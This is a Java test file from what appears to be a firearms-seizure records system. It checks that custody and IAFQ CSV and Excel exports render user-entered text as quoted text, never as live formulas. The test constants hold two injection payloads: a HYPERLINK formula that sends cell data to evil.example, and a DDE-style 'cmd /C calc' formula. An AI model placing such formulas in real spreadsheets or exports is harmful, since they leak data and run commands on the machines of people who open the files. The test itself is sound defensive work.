package org.armstrace.seizure;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.net.http.HttpResponse;
import java.time.LocalDate;
import java.util.List;
import java.util.UUID;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.armstrace.Api;
import org.armstrace.DatabaseTest;
import org.armstrace.TestUsers;
import org.armstrace.identity.Role;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * What officers typed reaches spreadsheets as text, never as a formula: the custody CSV,
 * the IAFQ CSVs and the IAFQ workbook.
 */
@DatabaseTest
class SpreadsheetSafetyTests {

	static final String LINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";

	static final String CALL = "@SUM(1+1)*cmd|' /C calc'!A0";

	@LocalServerPort
	int port;

	@Autowired
	TestUsers testUsers;

	@Autowired
	IafqExport iafq;

	@Test
	void theCustodyCsvAndTheIafqCsvsWriteFormulasAsQuotedTextAndNumbersAsNumbers() throws IOException {
		Api api = new Api(port);
		String customs = testUsers.token(Role.CUSTOMS);
		String location = LINK + UUID.randomUUID();
		seize(api, customs, location);

		String custody = approvedExport(api, customs, location);
		assertThat(custody).doesNotContain("\n" + LINK).doesNotContain("," + LINK).doesNotContain("," + CALL);
		List<CSVRecord> rows = records(custody);
		assertThat(rows).hasSize(2);
		assertThat(rows).allSatisfy(r -> assertThat(r.get("storage_location")).isEqualTo("'" + location));
		assertThat(rows).extracting(r -> r.get("make")).contains("'" + CALL);
		assertThat(rows).extracting(r -> r.get("custodian")).containsOnly("'-1+1");
		assertThat(rows).extracting(r -> r.get("quantity")).contains("250");

		String analyst = testUsers.token(Role.ANALYST);
		String period = "from=" + LocalDate.now().minusDays(3) + "&to=" + LocalDate.now();
		String items = api.get("/api/v1/iafq?" + period + "&format=items.csv", analyst).body();
		assertThat(records(items)).extracting(r -> r.get("make")).contains("'" + CALL).doesNotContain(CALL);
		String tables = api.get("/api/v1/iafq?" + period + "&format=csv", analyst).body();
		assertThat(tables).contains("Firearms by make,make,\"'" + CALL.replace("\"", "\"\"") + "\",")
			.doesNotContain("," + CALL);
	}

	@Test
	void theIafqWorkbookKeepsTheValueExactAsTextThatAnEditCannotTurnIntoAFormula() throws IOException {
		Api api = new Api(port);
		seize(api, testUsers.token(Role.CUSTOMS), "Vault " + UUID.randomUUID());
		IafqExport.Report report = iafq.report(LocalDate.now().minusDays(3), LocalDate.now());
		try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(iafq.xlsx(report)))) {
			Sheet items = book.getSheet("Items");
			int make = IafqExport.ITEM_COLUMNS.indexOf("make");
			Cell called = null;
			for (Row row : items) {
				Cell cell = row.getCell(make);
				if (cell != null && CALL.equals(cell.getStringCellValue())) {
					called = cell;
				}
			}
			assertThat(called).as("the make as read, exactly").isNotNull();
			assertThat(called.getCellType()).isEqualTo(CellType.STRING);
			assertThat(called.getCellStyle().getQuotePrefixed()).isTrue();
			Cell plain = items.getRow(0).getCell(make);
			assertThat(plain.getCellStyle().getQuotePrefixed()).isFalse();
			Sheet byMake = book.getSheet("By make");
			boolean prefixed = false;
			for (Row row : byMake) {
				Cell cell = row.getCell(0);
				prefixed |= CALL.equals(cell.getStringCellValue()) && cell.getCellStyle().getQuotePrefixed();
			}
			assertThat(prefixed).as("the make in the table by make").isTrue();
		}
	}

	private static void seize(Api api, String token, String location) {
		String body = """
				{"seizedOn": "%s", "country": "AUT", "placeKind": "BORDER_CROSSING", "agency": "Customs",
				 "legalBasis": "TRAFFICKING", "criminalContext": "NONE_KNOWN",
				 "items": [{"kind": "FIREARM", "observed": {"serial": "INJ*1", "make": %s, "type": "PISTOL"},
				            "storageLocation": %s, "custodian": "-1+1"},
				           {"kind": "AMMUNITION", "calibre": "9x19mm", "quantity": 250, "storageLocation": %s,
				            "custodian": "-1+1"}]}
				""".formatted(LocalDate.now().minusDays(1), json(CALL), json(location), json(location));
		HttpResponse<String> created = api.post("/api/v1/seizures", token, body);
		assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
	}

	private static List<CSVRecord> records(String csv) throws IOException {
		return CSVFormat.DEFAULT.builder()
			.setHeader()
			.setSkipHeaderRecord(true)
			.get()
			.parse(new StringReader(csv))
			.getRecords();
	}

	private static String json(String text) {
		return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
	}

	/** The custody CSV of a location: asked for, approved by an auditor, downloaded. */
	private String approvedExport(Api api, String asker, String location) {
		String id = Api
			.json(api.post("/api/v1/custody/exports", asker,
					"{\"location\": " + json(location) + ", \"purpose\": \"spreadsheet check\"}"))
			.path("id")
			.asString();
		api.post("/api/v1/custody/exports/" + id + "/approval", testUsers.token(Role.AUDITOR), "{}");
		HttpResponse<String> file = api.get("/api/v1/custody/exports/" + id + "/items.csv", asker);
		assertThat(file.statusCode()).as(file.body()).isEqualTo(200);
		return file.body();
	}

}
